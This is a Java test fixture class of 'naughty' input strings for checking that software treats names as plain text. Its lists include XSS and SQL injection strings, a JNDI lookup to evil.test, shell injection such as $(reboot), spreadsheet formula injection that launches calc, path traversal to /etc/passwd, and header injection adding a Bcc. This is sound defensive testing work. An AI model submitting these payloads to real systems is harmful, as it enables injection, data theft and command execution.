package com.martlet.testing;

import java.util.List;
import java.util.stream.Stream;

/** Names that are code, formulas, headers or paths to somebody else, and text to us. */
public final class NaughtyStrings {

    private static final List<String> CODE =
            List.of(
                    "<script>window.naughty=1</script>",
                    "\"><img src=x onerror=window.naughty=2>",
                    "'-window.naughty=3-'",
                    "</title></textarea><svg/onload=window.naughty=4>",
                    "<a href=\"javascript:window.naughty=5\">x</a>",
                    "&lt;b&gt; &amp; &#60;i&#62;",
                    "'; drop table customers; --",
                    "\" or \"1\"=\"1",
                    "{{customer.email}} {{7*7}}",
                    "${jndi:ldap://evil.test/a} #{7*7} <%= 7*7 %>",
                    "{0} {1,number} '{' %s %n %1$s",
                    "`touch /tmp/naughty` $(reboot) | ls",
                    "\\u003cscript\\u003e \\n \\0 \\");

    private static final List<String> FORMULAS =
            List.of(
                    "=HYPERLINK(\"http://evil.test\",\"x\")",
                    "=1+1",
                    "+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(1+1)",
                    "\t=1+1",
                    "\r=1+1",
                    "\n=1+1",
                    "＝1+1",
                    "＠SUM(1+1)");

    private static final List<String> SHAPES =
            List.of(
                    "../../etc/passwd",
                    "..\\..\\windows\\win.ini",
                    "a/b?c=d&e#f%00%2e",
                    "null",
                    "NULL",
                    "undefined",
                    "NaN",
                    "true",
                    "0",
                    "-0.0",
                    "1e400",
                    "2026-02-30",
                    "O'Brien \"Bob\", Jr.; & Co.",
                    " leading and trailing ",
                    "x".repeat(100) + "y");

    private static final List<String> SCRIPTS =
            List.of(
                    "\u202Egnp.exe",
                    "zero\u200Bwidth\u200D\uFEFF",
                    "مرحبا بالعالم",
                    "עברית 123 abc",
                    "👩‍👩‍👧‍👦 김민지 🇰🇷",
                    "Z̸̢̛͎a̷l̵g̶o̴",
                    "한글 漢字 かな ｶﾅ ﷽",
                    "İıŞşßẞﬁ",
                    "Ω≈ç√∫ ｡◕‿◕｡");

    private static final List<String> LINES =
            List.of(
                    "Kim\r\nBcc: everybody@evil.test",
                    "Kim\nContent-Type: text/html\n\n<b>x</b>",
                    "Kim\u2028Subject: x\u2029y",
                    "one\u0001two\u0007three");

    private NaughtyStrings() {}

    /** Names that fit on one line. */
    public static List<String> names() {
        return Stream.of(CODE, FORMULAS, SHAPES, SCRIPTS).flatMap(List::stream).toList();
    }

    /** Those with line breaks and control characters too. */
    public static List<String> all() {
        return Stream.concat(names().stream(), LINES.stream()).toList();
    }
}
